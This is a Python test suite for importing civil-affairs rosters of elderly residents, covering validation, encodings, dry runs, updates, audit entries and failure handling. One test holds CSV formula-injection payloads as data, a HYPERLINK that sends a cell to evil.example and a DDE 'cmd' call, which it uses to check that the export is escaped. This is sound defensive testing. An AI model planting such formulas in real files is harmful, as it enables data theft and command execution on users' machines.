"""The civil-affairs roster import against a real database: counts, reasons, dry runs, re-imports, fatal errors."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import time
from typing import Any

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select
from sqlalchemy.exc import OperationalError

from callcenter.audit.models import AuditEntry
from callcenter.audit.services import Actor
from callcenter.db.sealed import lookup_digest
from callcenter.db.session import Database
from callcenter.elders import roster as roster_module
from callcenter.elders.imports import RosterImportTasks
from callcenter.elders.models import ID_NUMBER_INDEX, Elder, LivingSituation, RosterImport, RosterImportStatus
from callcenter.elders.roster import RosterError, import_roster, read_roster, rejected_report
from callcenter.elders.services import create_elder
from tests.unit.elders.roster_data import HEADERS, Roster, resident_id, roster, row

ACTOR = Actor(None, "roster test")


async def _count(db: Database, model: type, *where: Any) -> int:
    async with db.transaction() as session:
        return int(await session.scalar(select(func.count()).select_from(model).where(*where)) or 0)


async def _import_row(db: Database, import_id: int) -> RosterImport:
    async with db.transaction() as session:
        found = await session.get(RosterImport, import_id)
        assert found is not None
        return found


def _csv(header: list[str], rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding)


async def test_ten_thousand_rows_csv_then_xlsx_with_bad_rows_mixed_in(db: Database) -> None:
    data = roster(10_000)
    expected_rejected = len(data.bad)
    assert expected_rejected == 124  # 103 bad rows, 21 of them duplicating the row before (both rejected)

    started = time.monotonic()
    dry = await import_roster(db, "roster.csv", data.csv("gb18030"), dry_run=True, actor=ACTOR)
    assert (dry.status, dry.total, dry.created, dry.updated, dry.unchanged, len(dry.rejected)) == (
        RosterImportStatus.DONE, 10_000, 10_000 - expected_rejected, 0, 0, expected_rejected)
    assert await _count(db, Elder) == 0 and await _count(db, AuditEntry) == 0  # a dry run commits nothing

    result = await import_roster(db, "roster.csv", data.csv("gb18030"), dry_run=False, actor=ACTOR)
    assert (result.created, result.updated, result.unchanged, len(result.rejected)) == (
        10_000 - expected_rejected, 0, 0, expected_rejected)
    assert {r.row: set(r.errors) for r in result.rejected} == data.bad
    reasons = {r.row: r.errors for r in result.rejected}
    assert "check digit" in reasons[52]["id_number"]  # index 50: a wrong check digit
    assert "not a Chinese mobile number" in reasons[149]["phone"]  # index 147: 1234-567
    assert reasons[246]["id_number"] == "the same resident ID is also on row 245: keep one row per elder"
    assert reasons[245]["id_number"] == "the same resident ID is also on row 246: keep one row per elder"
    assert reasons[343] == {"full_name": "required"}
    assert reasons[440] == {"birth_date": "is in the future"}
    assert await _count(db, Elder) == 10_000 - expected_rejected
    assert await _count(db, AuditEntry, AuditEntry.action == "elder.create") == 10_000 - expected_rejected
    stored = await _import_row(db, result.import_id)
    assert (stored.status, stored.total_rows, stored.processed_rows, stored.created_count, stored.rejected_count) == (
        RosterImportStatus.DONE, 10_000, 10_000, 10_000 - expected_rejected, expected_rejected)
    assert stored.rejected_rows[0]["row"] == 52 and stored.rejected_rows[0]["values"]["姓名"] == data.rows[50][0]

    audit_before = await _count(db, AuditEntry)
    again = await import_roster(db, "roster.xlsx", data.xlsx(), dry_run=False, actor=ACTOR)
    assert (again.status, again.created, again.updated, again.unchanged, len(again.rejected)) == (
        RosterImportStatus.DONE, 0, 0, 10_000 - expected_rejected, expected_rejected)
    assert await _count(db, AuditEntry) == audit_before  # nothing changed, nothing to audit
    assert time.monotonic() - started < 40  # well under a minute for the three 10 000-row runs


async def test_every_encoding_and_the_xlsx_read_the_same() -> None:
    data = roster(30)
    expected = read_roster("r.csv", data.csv())
    for payload in (b"\xef\xbb\xbf" + data.csv(), data.csv("gb18030"), data.csv("utf-16")):
        assert read_roster("r.csv", payload).rows == expected.rows
    assert read_roster("r.xlsx", data.xlsx()).rows == expected.rows
    assert expected.columns == {"full_name": 0, "id_number": 1, "gender": 2, "birth_date": 3, "phone": 4,
                                "address": 5, "community": 6, "district": 7, "living_situation": 8}


async def test_english_headers_title_row_blank_lines_and_excel_quirks(db: Database) -> None:
    first, second = row(1), row(2)
    text = ("Civil affairs roster, Zhongyuan district\r\n\r\n"
            "* Name,ID number,Phone,Living situation,Care level,Remarks\r\n"
            f'{first[0]},="{first[1]}",177 0000 0001,alone,3级,ignored\r\n'
            ",,,,,\r\n"
            f"{second[0]},'{second[1]},+86 177-0000-0002,空巢,,\r\n")
    result = await import_roster(db, "roster.csv", text.encode(), dry_run=False, actor=ACTOR)
    assert (result.created, result.rejected, result.ignored_columns) == (2, [], ["Remarks"])
    async with db.transaction() as session:
        elders = (await session.scalars(select(Elder).order_by(Elder.id))).all()
        assert [(e.id_number, e.phone, e.living_situation, e.care_level, e.gender) for e in elders] == [
            (first[1], "17700000001", LivingSituation.ALONE, 3, "男"),
            (second[1], "17700000002", LivingSituation.EMPTY_NEST, None, "女")]
        # no birth date column: taken from the ID
        assert elders[0].birth_date == dt.date.fromisoformat(first[3])


async def test_xlsx_cells_typed_as_dates_and_numbers(db: Database) -> None:
    book = Workbook()
    sheet = book.active
    good = row(7)
    sheet.append(["姓名", "身份证号", "出生日期", "联系电话"])
    sheet.append([good[0], good[1], dt.datetime.fromisoformat(good[3]), 17700000007])
    # An ID typed as a number: Excel keeps 15-17 digits of it. This one even reads back with a valid check digit
    # (410102193001020089 comes back as …096), so only the cell's type tells.
    sheet.append(["周某", 410102193001020089, None, None])
    out = io.BytesIO()
    book.save(out)
    result = await import_roster(db, "roster.xlsx", out.getvalue(), dry_run=False, actor=ACTOR)
    assert result.created == 1 and [r.row for r in result.rejected] == [3]
    assert "stored as a number in the spreadsheet" in result.rejected[0].errors["id_number"]
    async with db.transaction() as session:
        elder = await session.scalar(select(Elder))
        assert (elder.id_number, elder.birth_date, elder.phone) == (good[1], dt.date.fromisoformat(good[3]),
                                                                    "17700000007")


async def test_known_ids_update_only_the_roster_fields_that_differ(db: Database) -> None:
    kept, changed = row(11), row(12)
    async with db.transaction() as session:
        for cells, phone in ((kept, kept[4]), (changed, "17799999999")):
            await create_elder(session, {"full_name": cells[0], "id_number": cells[1], "phone": phone,
                                         "gender": "male" if cells[2] == "男" else "female",
                                         "birth_date": dt.date.fromisoformat(cells[3]), "address": cells[5],
                                         "community": cells[6], "district": cells[7],
                                         "living_situation": roster_module.LIVING_WORDS[cells[8]],
                                         "conditions": ["高血压"], "notes": "每周二血透"}, [], ACTOR,
                               today=dt.date.today())
    changed_row = [*changed]
    changed_row[5] = ""  # an empty cell never clears what the centre knows
    data = Roster([kept, changed_row, row(13)], {})
    audit_before = await _count(db, AuditEntry)
    result = await import_roster(db, "roster.csv", data.csv(), dry_run=False, actor=ACTOR)
    assert (result.created, result.updated, result.unchanged) == (1, 1, 1)  # male == 男: no change
    async with db.transaction() as session:
        elder = await session.scalar(select(Elder).where(
            Elder.id_number_digest == lookup_digest(session, changed[1], ID_NUMBER_INDEX)))
        assert (elder.phone, elder.address, elder.conditions, elder.notes) == (
            changed[4], changed[5], ["高血压"], "每周二血透")
        entries = (await session.scalars(select(AuditEntry).where(AuditEntry.id > audit_before)
                                         .order_by(AuditEntry.id))).all()
        assert [(e.action, e.target_id) for e in entries if e.action == "elder.update"] == [
            ("elder.update", str(elder.id))]
        update = next(e for e in entries if e.action == "elder.update")
        assert update.details == {"fields": ["phone"], "roster_import_id": result.import_id, "row": 3}
        assert [e.action for e in entries].count("roster.import") == 1


async def test_gender_and_birth_date_must_agree_with_the_id(db: Database) -> None:
    born = dt.date(1940, 5, 6)
    male_id = resident_id(5, born=born, male=True)
    rows = [["甲", male_id, "女", "", ""], ["乙", resident_id(6, born=born, male=False), "", "1940-05-07", ""],
            ["丙", resident_id(7, born=born, male=True), "male", "1940年5月6日", ""]]
    result = await import_roster(db, "r.csv", _csv(["姓名", "身份证号", "性别", "出生日期", "电话"], rows),
                                 dry_run=False, actor=ACTOR)
    assert result.created == 1
    assert {r.row: r.errors for r in result.rejected} == {
        2: {"gender": "does not match the resident ID, which says 男"},
        3: {"birth_date": "does not match the birth date in the resident ID (1940-05-06)"}}


@pytest.mark.parametrize(("filename", "payload", "fragment"), [
    ("r.csv", "姓名,电话\r\n王某,17700000001\r\n".encode(), "required column missing: 身份证号"),
    ("r.csv", b"a,b\r\n1,2\r\n", "no header row found"),
    ("r.xlsx", b"PK\x03\x04 not really a zip", "not a readable XLSX workbook"),
    ("r.xls", b"\xd0\xcf\x11\xe0 old excel", "Excel 97-2003"),
    ("r.csv", b"", "the file is empty"),
    ("r.csv", "姓名,身份证号,电话,联系电话\r\n".encode(), "both give the phone field"),
    ("r.csv", b"\x80\x80,\xff\xff\r\n", "neither UTF-8 nor GB18030"),
])
async def test_a_fatal_file_error_imports_nothing_and_says_why(db: Database, filename: str, payload: bytes,
                                                               fragment: str) -> None:
    with pytest.raises(RosterError, match=fragment):
        read_roster(filename, payload)
    result = await import_roster(db, filename, payload, dry_run=False, actor=ACTOR)
    assert result.status is RosterImportStatus.FAILED and fragment in (result.error or "")
    stored = await _import_row(db, result.import_id)
    assert stored.status is RosterImportStatus.FAILED and fragment in (stored.error or "")
    assert stored.finished_at is not None and await _count(db, Elder) == 0


async def test_a_database_error_midway_commits_nothing(db: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    real = roster_module._write_chunk
    calls = 0

    async def failing(*args: Any) -> Any:
        nonlocal calls
        calls += 1
        if calls == 3:  # two batches (1 000 elders) are already written in the transaction
            raise OperationalError("INSERT INTO elders", {}, Exception("disk I/O error"))
        return await real(*args)

    monkeypatch.setattr(roster_module, "_write_chunk", failing)
    result = await import_roster(db, "roster.csv", roster(1_500).csv(), dry_run=False, actor=ACTOR)
    assert calls == 3 and result.status is RosterImportStatus.FAILED
    assert "database error, nothing of the file was imported" in (result.error or "")
    assert "disk I/O error" in (result.error or "")
    assert await _count(db, Elder) == 0 and await _count(db, AuditEntry) == 0
    stored = await _import_row(db, result.import_id)
    assert (stored.status, stored.created_count, stored.rejected_rows) == (RosterImportStatus.FAILED, 0, [])


async def test_progress_is_committed_as_it_goes_and_a_watcher_sees_it(db: Database) -> None:
    seen: list[tuple[int, int, int]] = []

    async def watch(done: int, total: int) -> None:
        async with db.transaction(read_only=True) as session:
            rows = await session.scalar(select(RosterImport.processed_rows).order_by(RosterImport.id.desc()))
        seen.append((done, total, int(rows or 0)))

    await import_roster(db, "roster.csv", roster(1_200).csv(), dry_run=True, actor=ACTOR, progress=watch)
    assert seen == [(0, 1_200, 0), (500, 1_200, 500), (1_000, 1_200, 1_000), (1_200, 1_200, 1_200)]


async def test_an_import_running_at_shutdown_is_failed_with_nothing_committed(
        db: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    real = roster_module._write_chunk
    writing = asyncio.Event()

    async def slow(*args: Any) -> Any:
        result = await real(*args)
        writing.set()
        await asyncio.sleep(30)  # the shutdown comes while the data transaction is open
        return result

    monkeypatch.setattr(roster_module, "_write_chunk", slow)
    tasks = RosterImportTasks(db)
    import_id = await tasks.start("roster.csv", roster(600).csv(), dry_run=False, actor=ACTOR)
    assert tasks.running == [import_id]
    await asyncio.wait_for(writing.wait(), 10)
    await tasks.stop()
    assert tasks.running == []
    stored = await _import_row(db, import_id)
    assert stored.status is RosterImportStatus.FAILED and "server stopped" in (stored.error or "")
    assert await _count(db, Elder) == 0
    with pytest.raises(RuntimeError):
        await tasks.start("roster.csv", roster(1).csv(), dry_run=False, actor=ACTOR)


def test_the_rejected_rows_report_repeats_the_row_with_its_reasons() -> None:
    report = rejected_report([
        {"row": 3, "id_number": "1", "full_name": "王某", "errors": {"id_number": "bad", "phone": "worse"},
         "values": {"姓名": "王某", "身份证号": "1", "联系电话": "123"}},
        {"row": 9, "id_number": None, "full_name": None, "errors": {"full_name": "required"},
         "values": {"姓名": None, "身份证号": "2", "联系电话": None}},
    ])
    assert report.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(report[3:].decode())))
    assert lines == [["行号 row", "姓名", "身份证号", "联系电话", "错误原因 errors"],
                     ["3", "王某", "1", "123", "身份证号: bad; 联系电话: worse"],
                     ["9", "", "2", "", "姓名: required"]]
    assert HEADERS[0] == "姓名"


def test_the_rejected_rows_report_never_carries_a_formula_from_the_uploaded_file() -> None:
    report = rejected_report([
        {"row": 4, "errors": {"id_number": "bad"},
         "values": {"姓名": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
                    "身份证号": "@SUM(1+1)*cmd|' /C calc'!A0", "联系电话": "+8613800138000", "住址": "-2+3"}},
    ])
    cells = list(csv.reader(io.StringIO(report[3:].decode())))[1]
    assert cells[1:5] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "'@SUM(1+1)*cmd|' /C calc'!A0",
                          "'+8613800138000", "'-2+3"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


async def test_a_workbook_damaged_inside_fails_the_import_instead_of_leaving_it_running(db: Database) -> None:
    import zipfile

    good = io.BytesIO(roster(20).xlsx())
    damaged = io.BytesIO()
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(damaged, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/sheet"):
                data = data[: len(data) // 2]  # the sheet's XML cut off mid-way
            target.writestr(item, data)
    result = await import_roster(db, "damaged.xlsx", damaged.getvalue(), dry_run=False, actor=ACTOR)
    assert result.status is RosterImportStatus.FAILED and "nothing was imported" in (result.error or "")
    stored = await _import_row(db, result.import_id)
    assert stored.status is RosterImportStatus.FAILED and await _count(db, Elder) == 0
